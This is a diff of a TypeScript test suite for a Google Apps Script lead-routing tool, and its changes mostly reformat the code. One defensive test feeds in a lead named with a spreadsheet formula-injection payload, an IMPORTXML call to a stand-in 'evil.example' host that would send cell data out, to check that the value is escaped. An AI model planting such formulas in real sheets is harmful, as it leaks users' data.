@@ -11,12 +11,27 @@ import {STATE_COUNT_KEY} from '../src/stateStore';
 import {createWorld} from './fakes';
 
 const GLOBALS = [
-  'onOpen', 'onInstall', 'setUpSheets', 'assignNewLeads', 'previewRouting', 'showSettings', 'enableAutoAssign',
-  'disableAutoAssign', 'onFormSubmitAssign', 'onChangeAssign', 'catchUpAssign', 'getSettings', 'saveSettings',
+  'onOpen',
+  'onInstall',
+  'setUpSheets',
+  'assignNewLeads',
+  'previewRouting',
+  'showSettings',
+  'enableAutoAssign',
+  'disableAutoAssign',
+  'onFormSubmitAssign',
+  'onChangeAssign',
+  'catchUpAssign',
+  'getSettings',
+  'saveSettings',
 ];
 
 /** The core's owners for these leads in one batch from an empty state. */
-function coreOwners(leads: Record<string, unknown>[], now: number | string, config = simpleConfig()): (string | null)[] {
+function coreOwners(
+  leads: Record<string, unknown>[],
+  now: number | string,
+  config = simpleConfig(),
+): (string | null)[] {
   return routeBatch(leads, config, undefined, now).decisions.map(d => d.ownerId);
 }
 
@@ -42,7 +57,14 @@ describe('the bundle as Apps Script sees it', () => {
     const menu = world.ui.menus[0];
     expect(menu.name).toBe('Lead Routing');
     const fns = menu.items.map(i => i[1]).filter(Boolean);
-    expect(fns).toEqual(['setUpSheets', 'assignNewLeads', 'previewRouting', 'showSettings', 'enableAutoAssign', 'disableAutoAssign']);
+    expect(fns).toEqual([
+      'setUpSheets',
+      'assignNewLeads',
+      'previewRouting',
+      'showSettings',
+      'enableAutoAssign',
+      'disableAutoAssign',
+    ]);
     for (const f of fns) expect(ex.globals()).toContain(f);
   });
 });
@@ -52,13 +74,17 @@ describe('Set up sheets', () => {
     const world = createWorld();
     run(world, 'setUpSheets');
     const names = world.sheets.map(s => s.name);
-    expect(names).toEqual(expect.arrayContaining([SHEETS.reps, SHEETS.territories, SHEETS.leads, SHEETS.log, SHEETS.dashboard]));
+    expect(names).toEqual(
+      expect.arrayContaining([SHEETS.reps, SHEETS.territories, SHEETS.leads, SHEETS.log, SHEETS.dashboard]),
+    );
     expect(sheetValues(world, SHEETS.reps)[0]).toEqual([...REP_HEADERS]);
     expect(sheetValues(world, SHEETS.territories)[0]).toEqual([...TERRITORY_HEADERS]);
     expect(sheetValues(world, SHEETS.leads)[0]).toEqual(expect.arrayContaining([...ASSIGNMENT_HEADERS]));
     expect(sheetValues(world, SHEETS.log)[0]).toEqual([...LOG_HEADERS]);
     const reps = world.sheets.find(s => s.name === SHEETS.reps)!;
-    expect(reps.validations).toContainEqual(expect.objectContaining({col: REP_HEADERS.indexOf('Available') + 1, row: 2, kind: 'checkbox'}));
+    expect(reps.validations).toContainEqual(
+      expect.objectContaining({col: REP_HEADERS.indexOf('Available') + 1, row: 2, kind: 'checkbox'}),
+    );
     const dash = world.sheets.find(s => s.name === SHEETS.dashboard)!;
     expect(dash.charts).toHaveLength(2);
     expect([...dash.formulas.values()].join(' ')).toMatch(/QUERY\(\{'Leads'!/);
@@ -67,7 +93,10 @@ describe('Set up sheets', () => {
 
   it('is safe to run again: keeps data, adds only missing headers, does not duplicate charts', () => {
     const world = createWorld();
-    putSheet(world, SHEETS.leads, [['Email', 'Company'], ['a@x.com', 'Acme']]);
+    putSheet(world, SHEETS.leads, [
+      ['Email', 'Company'],
+      ['a@x.com', 'Acme'],
+    ]);
     run(world, 'setUpSheets');
     run(world, 'setUpSheets');
     expect(sheetValues(world, SHEETS.leads)[0]).toEqual(['Email', 'Company', ...ASSIGNMENT_HEADERS]);
@@ -197,7 +226,10 @@ describe('Assign new leads', () => {
 
   it('escapes lead data: a lead named =IMPORTXML(...) stays text in the log', () => {
     const evil = '=IMPORTXML("https://evil.example/x?"&A1, "//a")';
-    const world = worldFor(simpleConfig(), [{Name: evil, Email: '+1@x.com', State: 'TX'}, {Name: '@SUM(1)', Email: 'b@x.com', State: 'CA'}]);
+    const world = worldFor(simpleConfig(), [
+      {Name: evil, Email: '+1@x.com', State: 'TX'},
+      {Name: '@SUM(1)', Email: 'b@x.com', State: 'CA'},
+    ]);
     run(world, 'assignNewLeads');
     const log = world.sheets.find(s => s.name === SHEETS.log)!;
     expect(log.formulas.size).toBe(0);
@@ -283,7 +315,9 @@ describe('automatic assignment', () => {
     run(world, 'enableAutoAssign');
     run(world, 'enableAutoAssign');
     expect(world.triggers.map(t => `${t.handler}:${t.kind}`).sort()).toEqual([
-      'catchUpAssign:CLOCK', 'onChangeAssign:ON_CHANGE', 'onFormSubmitAssign:ON_FORM_SUBMIT',
+      'catchUpAssign:CLOCK',
+      'onChangeAssign:ON_CHANGE',
+      'onFormSubmitAssign:ON_FORM_SUBMIT',
     ]);
     expect(lastAlert(world)).toMatch(/at most once an hour/);
     run(world, 'disableAutoAssign');
@@ -307,19 +341,29 @@ describe('Settings sidebar', () => {
     ex.call('showSettings');
     const sidebar = world.ui.sidebars[0];
     // The sidebar calls global functions of the bundle.
-    const called = [...sidebar.matchAll(/\.(\w+)\((?:form)?\);?/g)].map(m => m[1]).filter(n => n === 'getSettings' || n === 'saveSettings');
+    const called = [...sidebar.matchAll(/\.(\w+)\((?:form)?\);?/g)]
+      .map(m => m[1])
+      .filter(n => n === 'getSettings' || n === 'saveSettings');
     expect(new Set(called)).toEqual(new Set(['getSettings', 'saveSettings']));
     for (const f of called) expect(ex.globals()).toContain(f);
     const token = 'patAbCdEfGhIj.0123456789abcdef';
     const r = run(world, 'saveSettings', {
-      source: 'airtable', strategy: 'weighted', cascade: ['exact', 'pool'], defaultOwner: 'Ana Diaz',
-      dedupe: {enabled: true, fields: ['email'], windowHours: 48}, notify: false,
-      airtableBaseId: 'appABCDEFGHIJKLMN', airtableToken: token,
+      source: 'airtable',
+      strategy: 'weighted',
+      cascade: ['exact', 'pool'],
+      defaultOwner: 'Ana Diaz',
+      dedupe: {enabled: true, fields: ['email'], windowHours: 48},
+      notify: false,
+      airtableBaseId: 'appABCDEFGHIJKLMN',
+      airtableToken: token,
     }) as {ok: boolean; problems: string[]};
     expect(r.problems).toEqual([]);
     expect(world.props.user.get('leadRouting.airtableToken')).toBe(token);
     expect([...world.props.document.values()].join('')).not.toContain(token);
-    const state = run(world, 'getSettings') as {settings: {strategy: string; source: string}; hasAirtableToken: boolean};
+    const state = run(world, 'getSettings') as {
+      settings: {strategy: string; source: string};
+      hasAirtableToken: boolean;
+    };
     expect(state.settings.strategy).toBe('weighted');
     expect(state.hasAirtableToken).toBe(true);
     expect(JSON.stringify(state)).not.toContain(token);
